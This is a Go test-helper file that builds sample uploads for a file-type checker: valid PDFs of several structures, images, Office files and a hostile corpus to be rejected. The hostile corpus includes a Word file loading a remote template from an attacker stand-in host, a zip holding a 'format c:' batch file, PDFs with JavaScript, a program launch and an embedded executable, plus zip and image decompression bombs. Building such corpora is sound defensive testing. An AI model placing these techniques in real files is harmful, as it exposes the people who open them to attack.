// Package filetypetest builds the files the upload checks are tested
// with: well-formed PDFs of every structure the page counter reads, and a
// hostile corpus (macro documents, zip bombs, decompression-bomb images).
// Nothing is a binary fixture: every file is made here, small, so the
// tests say what each one is.
package filetypetest

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"strconv"
	"strings"
)

// BuildPDF lays out objects 1, 2, ... with a correct cross-reference table
// and a trailer holding trailerEntries (at least "/Root N 0 R").
func BuildPDF(objs []string, trailerEntries string) []byte {
	var b strings.Builder
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		b.WriteString(strconv.Itoa(i+1) + " 0 obj\n" + o + "\nendobj\n")
	}
	xref := b.Len()
	b.WriteString("xref\n0 " + strconv.Itoa(len(objs)+1) + "\n0000000000 65535 f \n")
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	b.WriteString("trailer\n<< /Size " + strconv.Itoa(len(objs)+1) + " " + trailerEntries + " >>\nstartxref\n" + strconv.Itoa(xref) + "\n%%EOF\n")
	return []byte(b.String())
}

// PDF is a well-formed PDF of n empty pages.
func PDF(n int) []byte { return BuildPDF(PageTree(n, ""), "/Root 1 0 R") }

func deflate(data []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write(data)
	w.Close()
	return b.Bytes()
}

// ObjStmPDF builds a PDF 1.5 whose objects 1 to len(objs) all sit in one
// compressed object stream (object len(objs)+1), listed by a compressed
// cross-reference stream with a PNG "Up" predictor, the way current
// writers (Word, LibreOffice, Acrobat) save. breakXref points startxref at
// nothing, so a reader has to find the objects by scanning.
func ObjStmPDF(objs []string, breakXref bool) []byte {
	var header, body strings.Builder
	for i, o := range objs {
		fmt.Fprintf(&header, "%d %d ", i+1, body.Len())
		body.WriteString(o + "\n")
	}
	first := header.Len()
	stm := deflate([]byte(header.String() + body.String()))
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	stmNum := len(objs) + 1
	stmOff := b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n", stmNum, len(objs), first, len(stm))
	b.Write(stm)
	b.WriteString("\nendstream\nendobj\n")
	xrefNum := stmNum + 1
	xrefOff := b.Len()
	// Rows of W [1 4 2]: type, offset or stream number, generation or index.
	var rows [][]byte
	rows = append(rows, []byte{0, 0, 0, 0, 0, 0xff, 0xff})
	for i := range objs {
		rows = append(rows, []byte{2, 0, 0, byte(stmNum >> 8), byte(stmNum), 0, byte(i)})
	}
	rows = append(rows, []byte{1, byte(stmOff >> 24), byte(stmOff >> 16), byte(stmOff >> 8), byte(stmOff), 0, 0})
	rows = append(rows, []byte{1, byte(xrefOff >> 24), byte(xrefOff >> 16), byte(xrefOff >> 8), byte(xrefOff), 0, 0})
	var raw []byte
	prev := make([]byte, 7)
	for _, r := range rows {
		raw = append(raw, 2) // PNG Up
		for i := range r {
			raw = append(raw, r[i]-prev[i])
		}
		prev = r
	}
	xs := deflate(raw)
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> /Length %d >>\nstream\n",
		xrefNum, xrefNum+1, len(xs))
	b.Write(xs)
	b.WriteString("\nendstream\nendobj\n")
	start := xrefOff
	if breakXref {
		start = 3
	}
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", start)
	return b.Bytes()
}

// PageTree is a catalog (1), a page tree root (2) and n pages (3...).
func PageTree(n int, extraCatalog string) []string {
	var kids []string
	for i := range n {
		kids = append(kids, strconv.Itoa(3+i)+" 0 R")
	}
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R " + extraCatalog + " >>",
		"<< /Type /Pages /Kids [" + strings.Join(kids, " ") + "] /Count " + strconv.Itoa(n) + " >>",
	}
	for range n {
		objs = append(objs, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
	}
	return objs
}

// IncrementalPDF is a one-page PDF with an appended update whose own xref
// section (pointing back with /Prev) replaces the page tree with two pages.
func IncrementalPDF() []byte {
	base := PDF(1)
	var b bytes.Buffer
	b.Write(base)
	i := bytes.LastIndex(base, []byte("startxref\n"))
	prev := strings.TrimSpace(strings.Split(string(base[i+len("startxref\n"):]), "\n")[0])
	off2 := b.Len()
	b.WriteString("2 0 obj\n<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>\nendobj\n")
	off4 := b.Len()
	b.WriteString("4 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n")
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n2 1\n%010d 00000 n \n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n", off2, off4, prev, xref)
	return b.Bytes()
}

// LengthByRefPDF gives its content stream's /Length as a reference, and
// the stream holds text that looks like an object.
func LengthByRefPDF() []byte {
	content := "BT (endobj 9 0 obj << /Type /Page >>) Tj ET"
	return BuildPDF([]string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
		"<< /Length 5 0 R >>\nstream\n" + content + "\nendstream",
		strconv.Itoa(len(content)),
	}, "/Root 1 0 R")
}

// ZipPart is one entry of a test zip.
type ZipPart struct {
	Name, Body string
	Store      bool
}

// Zip builds a zip of the given entries, in order.
func Zip(parts ...ZipPart) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, p := range parts {
		h := &zip.FileHeader{Name: p.Name, Method: zip.Deflate}
		if p.Store {
			h.Method = zip.Store
		}
		f, err := w.CreateHeader(h)
		if err != nil {
			panic(err)
		}
		f.Write([]byte(p.Body))
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

const (
	docxTypes = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` +
		`<Override PartName="/word/document.xml" ContentType="` + "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml" + `"/>%s</Types>`
	rootRels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
	wordDoc = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` +
		`<w:body><w:p><w:r><w:t>Dear CCF</w:t></w:r></w:p>%s</w:body></w:document>`
	docRelsFmt = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>`
)

// DOCX builds a Word document; extra parts and content types, document
// body XML and word/_rels relationships make it hostile.
func DOCX(extraTypes, body, rels string, extra ...ZipPart) []byte {
	parts := []ZipPart{
		{Name: "[Content_Types].xml", Body: fmt.Sprintf(docxTypes, extraTypes)},
		{Name: "_rels/.rels", Body: rootRels},
		{Name: "word/document.xml", Body: fmt.Sprintf(wordDoc, body)},
		{Name: "word/_rels/document.xml.rels", Body: fmt.Sprintf(docRelsFmt, rels)},
	}
	return Zip(append(parts, extra...)...)
}

// CleanDOCX is a plain Word document with a hyperlink.
func CleanDOCX() []byte {
	return DOCX("", "", `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.interpol.int/" TargetMode="External"/>`)
}

// MacroDOCX carries a VBA project.
func MacroDOCX() []byte {
	return DOCX(`<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`, "", "",
		ZipPart{Name: "word/vbaProject.bin", Body: "\xd0\xcf\x11\xe0 macro"})
}

// ExternalTemplateDOCX loads its template from a remote address when
// opened (template injection).
func ExternalTemplateDOCX() []byte {
	return DOCX("", "", "", ZipPart{Name: "word/_rels/settings.xml.rels", Body: fmt.Sprintf(docRelsFmt,
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>`)})
}

// ODT builds an OpenDocument text with extra entries.
func ODT(extra ...ZipPart) []byte {
	parts := []ZipPart{
		{Name: "mimetype", Body: "application/vnd.oasis.opendocument.text", Store: true},
		{Name: "META-INF/manifest.xml", Body: `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`},
		{Name: "content.xml", Body: `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts/><office:body/></office:document-content>`},
	}
	return Zip(append(parts, extra...)...)
}

// ZipBomb is a docx whose document part inflates from a few kilobytes to
// many megabytes.
func ZipBomb() []byte {
	return DOCX("", strings.Repeat("<w:p/>", 5<<20/6), "")
}

// ManyEntriesDOCX has more parts than the limit.
func ManyEntriesDOCX() []byte {
	var extra []ZipPart
	for i := range 1000 {
		extra = append(extra, ZipPart{Name: fmt.Sprintf("word/media/p%d.xml", i), Body: "x"})
	}
	return DOCX("", "", "", extra...)
}

// PNGHeader is the start of a PNG declaring w x h pixels: enough for any
// reader to allocate w x h before it sees there is no data.
func PNGHeader(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	chunk := append([]byte("IHDR"), ihdr...)
	binary.Write(&b, binary.BigEndian, uint32(13))
	b.Write(chunk)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(chunk))
	return b.Bytes()
}

// SmallPNG is a real 4 x 3 picture.
func SmallPNG() []byte {
	img := image.NewGray(image.Rect(0, 0, 4, 3))
	img.Set(1, 1, color.White)
	var b bytes.Buffer
	png.Encode(&b, img)
	return b.Bytes()
}

// JPEGHeader is the start of a baseline JPEG whose frame declares w x h.
func JPEGHeader(w, h uint16) []byte {
	sof := []byte{0xff, 0xc0, 0, 11, 8, byte(h >> 8), byte(h), byte(w >> 8), byte(w), 1, 1, 0x11, 0}
	jfif := []byte{0xff, 0xe0, 0, 16, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0}
	return append(append([]byte{0xff, 0xd8}, jfif...), append(sof, 0xff, 0xd9)...)
}

// TIFFPages is a little-endian TIFF with one IFD per page size.
func TIFFPages(sizes ...[2]uint32) []byte {
	var b bytes.Buffer
	b.WriteString("II*\x00")
	binary.Write(&b, binary.LittleEndian, uint32(8))
	for i, s := range sizes {
		binary.Write(&b, binary.LittleEndian, uint16(2))
		for _, e := range [][2]uint32{{256, s[0]}, {257, s[1]}} {
			binary.Write(&b, binary.LittleEndian, uint16(e[0]))
			binary.Write(&b, binary.LittleEndian, uint16(4))
			binary.Write(&b, binary.LittleEndian, uint32(1))
			binary.Write(&b, binary.LittleEndian, e[1])
		}
		next := uint32(0)
		if i < len(sizes)-1 {
			next = uint32(b.Len() + 4)
		}
		binary.Write(&b, binary.LittleEndian, next)
	}
	return b.Bytes()
}

// HEIF is an ftyp box and a meta box whose ipco holds one ispe.
func HEIF(brand string, w, h uint32) []byte {
	box := func(typ string, body []byte) []byte {
		out := binary.BigEndian.AppendUint32(nil, uint32(8+len(body)))
		return append(append(out, typ...), body...)
	}
	ispe := box("ispe", binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(make([]byte, 4), w), h))
	meta := box("meta", append(make([]byte, 4), append(box("hdlr", make([]byte, 24)), box("iprp", box("ipco", ispe))...)...))
	return append(box("ftyp", []byte(brand+"\x00\x00\x00\x00mif1heic")), meta...)
}

// PDFWith is a one-page PDF whose catalog has extraCatalog and whose
// objects go on with extra (numbered from 4).
func PDFWith(extraCatalog string, extra ...string) []byte {
	return BuildPDF(append(PageTree(1, extraCatalog), extra...), "/Root 1 0 R")
}

// JavaScriptPDF runs a script when opened.
func JavaScriptPDF() []byte {
	return PDFWith("/OpenAction 4 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>")
}

// LaunchPDF has a link that starts a program.
func LaunchPDF() []byte {
	return PDFWith("", "<< /Type /Annot /Subtype /Link /A << /S /Launch /F (calc.exe) >> >>")
}

// EmbeddedFilePDF carries an executable as an attachment.
func EmbeddedFilePDF() []byte {
	return PDFWith("/Names << /EmbeddedFiles 4 0 R >>", "<< /Names [(a.exe) 5 0 R] >>",
		"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")
}

// UncountablePDF starts like a PDF but has no page tree to count.
func UncountablePDF() []byte {
	return []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n2 0 obj << /Type /Page >> endobj\n%%EOF\n")
}

// OLEDoc is the head of a Word 97-2003 file (an OLE2 compound file).
func OLEDoc() []byte {
	head := []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	return append(head, make([]byte, 1024)...)
}

// NotOfficeZip is an ordinary zip (here: a script) to be named .docx.
func NotOfficeZip() []byte {
	return Zip(ZipPart{Name: "run.bat", Body: "format c:"}, ZipPart{Name: "readme.txt", Body: "open run.bat"})
}

// MacroODT carries a Basic library.
func MacroODT() []byte {
	return ODT(ZipPart{Name: "Basic/Standard/Module1.xml", Body: "<script:module/>"})
}

// Disguised files that are none of the accepted types.
var (
	HTML = []byte("<!DOCTYPE html><html><body><script>fetch('/staff')</script></body></html>")
	SVG  = []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
	EXE  = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 256)...)
)
